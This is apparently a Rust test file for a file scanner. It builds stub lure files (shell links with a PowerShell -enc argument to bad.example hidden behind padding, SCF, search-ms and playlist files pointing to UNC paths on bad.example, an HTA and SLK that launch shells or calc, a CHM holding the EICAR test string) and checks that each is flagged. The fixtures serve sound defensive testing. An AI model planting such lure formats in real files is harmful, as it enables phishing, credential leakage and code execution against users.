//! Small files made here.

use super::super::tests::{codes, examine, policy};
use crate::inspect::inspector::Examiner;

/// A shell link with arguments in UTF-16 and octets behind its end (MS-SHLLINK §2.1, §2.4).
fn shell_link(relative: &str, arguments: &str, behind: &[u8]) -> Vec<u8> {
    let mut out = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    out.extend_from_slice(&0xA8_u32.to_le_bytes());
    out.resize(76, 0);
    for text in [relative, arguments] {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        out.extend_from_slice(&u16::try_from(wide.len() / 2).unwrap().to_le_bytes());
        out.extend(wide);
    }
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(behind);
    out
}

#[test]
fn links_say_what_they_start_and_where_they_lead() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let blanks = format!("{}-enc AAAA http://bad.example/x", " ".repeat(300));
    type Case<'a> = (&'a str, Vec<u8>, &'a [&'a str], &'a [&'a str]);
    let cases: Vec<Case<'_>> = vec![
        (
            "a.lnk",
            shell_link("..\\powershell.exe", "-enc AAAA http://bad.example/x", b""),
            &["link.command"],
            &["link.overlay", "link.padded"],
        ),
        ("b.lnk", shell_link("..\\cmd.exe", &blanks, &[b'x'; 100]), &["link.padded", "link.overlay"], &[]),
        ("c.lnk", shell_link("\\\\bad.example\\share\\a.exe", "", b""), &["link.remote"], &[]),
        ("d.lnk", shell_link("..\\notes.txt", "", b""), &[], &["link."]),
        ("e.url", b"[InternetShortcut]\r\nURL=file://bad.example/a.exe\r\n".to_vec(), &["link.remote"], &[]),
        ("f.url", b"[InternetShortcut]\r\nURL=https://good.example/\r\n".to_vec(), &[], &["link."]),
        ("g.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\bad.example\\a.ico\r\n".to_vec(), &["link.remote"], &[]),
        (
            "h.library-ms",
            b"<?xml version='1.0'?><x><simpleLocation><url>\\\\bad.example\\s</url></simpleLocation></x>".to_vec(),
            &["link.remote"],
            &[],
        ),
        (
            "i.settingcontent-ms",
            b"<?xml version='1.0'?><x><DeepLink>cmd.exe /c calc</DeepLink></x>".to_vec(),
            &["link.command"],
            &[],
        ),
        (
            "j.js",
            b"var s = new ActiveXObject('WScript.Shell'); s.Run('powershell')".to_vec(),
            &["script.suspicious"],
            &[],
        ),
        ("k.iqy", b"WEB\r\n1\r\nhttp://bad.example/q\r\n".to_vec(), &["office.external-object"], &[]),
        (
            "l.ics",
            b"BEGIN:VCALENDAR\r\nURL:https://good.example/meet\r\nEND:VCALENDAR\r\n".to_vec(),
            &[],
            &["link.", "office."],
        ),
        (
            "m.vbe",
            b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@".to_vec(),
            &["script.encoded"],
            &["script.suspicious"],
        ),
        (
            "n.msc",
            b"<?xml version='1.0'?><MMC_ConsoleFile><String>res://apds.dll/redirect.html?target=javascript:eval(x)</String></MMC_ConsoleFile>".to_vec(),
            &["script.suspicious"],
            &[],
        ),
        (
            "o.xsl",
            b"<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script language='JScript'>x()</ms:script></xsl:stylesheet>".to_vec(),
            &["script.suspicious"],
            &[],
        ),
        ("p.m3u", b"#EXTM3U\r\n\\\\bad.example\\a.mp3\r\n".to_vec(), &["link.remote"], &[]),
        ("q.asx", b"<asx><ref href=\"file://bad.example/a\"/></asx>".to_vec(), &["link.remote"], &[]),
        ("r.jnlp", b"<jnlp codebase='http://good.example/'></jnlp>".to_vec(), &[], &["link."]),
        ("s.inf", b"[autorun]\r\nopen=run.exe\r\n".to_vec(), &["link.command"], &[]),
        ("t.bas", b"Attribute VB_Name = \"M\"\r\nSub Total()\r\nx = 1\r\nEnd Sub\r\n".to_vec(), &["macro.present"], &["macro.s"]),
        ("u.hta", b"<hta:application id=x><script>new ActiveXObject('WScript.Shell')</script>".to_vec(), &["html.application", "script.suspicious"], &[]),
        ("v.search-ms", b"<?xml version='1.0'?><persistedQuery><include path=\"\\\\bad.example\\s\"/></persistedQuery>".to_vec(), &["link.remote"], &[]),
        ("w.slk", b"ID;P\r\nC;X1;Y1;EEXEC(\"calc\")\r\n".to_vec(), &["macro.xlm", "macro.suspicious"], &[]),
        ("x.m3u", b"#EXTM3U\r\nsong.mp3\r\n".to_vec(), &[], &["link."]),
    ];
    for (name, body, wanted, unwanted) in cases {
        let facts = examine(&examiner, name, "application/octet-stream", &body);
        let found = codes(&facts);
        for code in wanted {
            assert!(found.iter().any(|c| c == code), "{name}: no {code} in {found:?}");
        }
        for code in unwanted {
            assert!(!found.iter().any(|c| c.starts_with(code)), "{name}: {code} in {found:?}");
        }
        if String::from_utf8_lossy(&body).contains("://") {
            assert!(!facts.urls.is_empty(), "{name} has links");
        }
    }
}

fn eicar() -> Vec<u8> {
    concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").as_bytes().to_vec()
}

/// Compiled help with one file in one frame of LZX: a block that is not compressed.
fn help() -> Vec<u8> {
    let body = eicar();
    let size = u32::try_from(body.len()).unwrap();
    // No translation of calls, kind 3, the length in 24 bits, then even: four octets in little-endian pairs.
    let bits = (0b0011_u32 << 28) | (size << 4);
    let [a, b, c, d] = bits.to_be_bytes();
    let mut frame = vec![b, a, d, c];
    frame.extend([1, 0, 0, 0].repeat(3));
    frame.extend(&body);
    let mut control = vec![6, 0, 0, 0];
    control.extend(b"LZXC");
    [2_u32, 1, 1, 1].iter().for_each(|n| control.extend(n.to_le_bytes()));
    let mut table = [2_u32, 1, 8, 0x28].iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<u8>>();
    [u64::from(size), frame.len() as u64, 0x8000, 0].iter().for_each(|n| table.extend(n.to_le_bytes()));
    let mut content = Vec::new();
    let mut entries = Vec::new();
    let seven = |n: usize| [u8::try_from(n / 128).unwrap() | 0x80, u8::try_from(n % 128).unwrap()];
    let mut entry = |name: &str, section: u8, start: usize, length: usize| {
        entries.push(u8::try_from(name.len()).unwrap());
        entries.extend(name.bytes());
        entries.push(section);
        entries.extend(seven(start));
        entries.extend(seven(length));
    };
    for (name, data) in [
        ("::DataSpace/Storage/MSCompressed/Content", &frame),
        ("::DataSpace/Storage/MSCompressed/ControlData", &control),
        ("::DataSpace/Storage/MSCompressed/Transform/{7FC28940}/InstanceData/ResetTable", &table),
    ] {
        entry(name, 0, content.len(), data.len());
        content.extend_from_slice(data);
    }
    entry("/a.com", 1, 0, body.len());
    let mut out = b"ITSF\x03\0\0\0".to_vec();
    out.resize(0x58, 0);
    out.extend((0x60_u64 + 4096).to_le_bytes());
    out.extend(b"PMGL");
    out.extend(u32::try_from(4096 - 20 - entries.len()).unwrap().to_le_bytes());
    out.extend([0; 12]);
    out.extend(entries);
    out.resize(0x60 + 4096, 0);
    out.extend(content);
    out
}

#[test]
fn pages_of_compiled_help_and_messages_of_mailboxes_are_opened() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let found = codes(&examine(&examiner, "a.chm", "application/octet-stream", &help()));
    for code in ["malware.eicar", "link.help-file", "office.package-program"] {
        assert!(found.iter().any(|c| c == code), "no {code} in {found:?}");
    }
    let message = |body: &str| format!("From a@b.example Thu Jul 31 13:49:50 2008\nSubject: x\n\n{body}\n\n");
    let mailbox = message("hello") + &message(&String::from_utf8(eicar()).unwrap());
    let facts = examine(&examiner, "old", "application/octet-stream", mailbox.as_bytes());
    assert!(codes(&facts).contains(&"malware.eicar".to_owned()), "{:?}", facts.findings);
    assert!(facts.parts.iter().any(|p| p.path.contains("message 2")), "{:?}", facts.parts);
    let letter = examine(&examiner, "a.txt", "text/plain", b"From 9 to 5\nwe work.\n");
    assert!(!letter.parts.iter().any(|p| p.path.contains("message 1")), "{:?}", letter.parts);
}
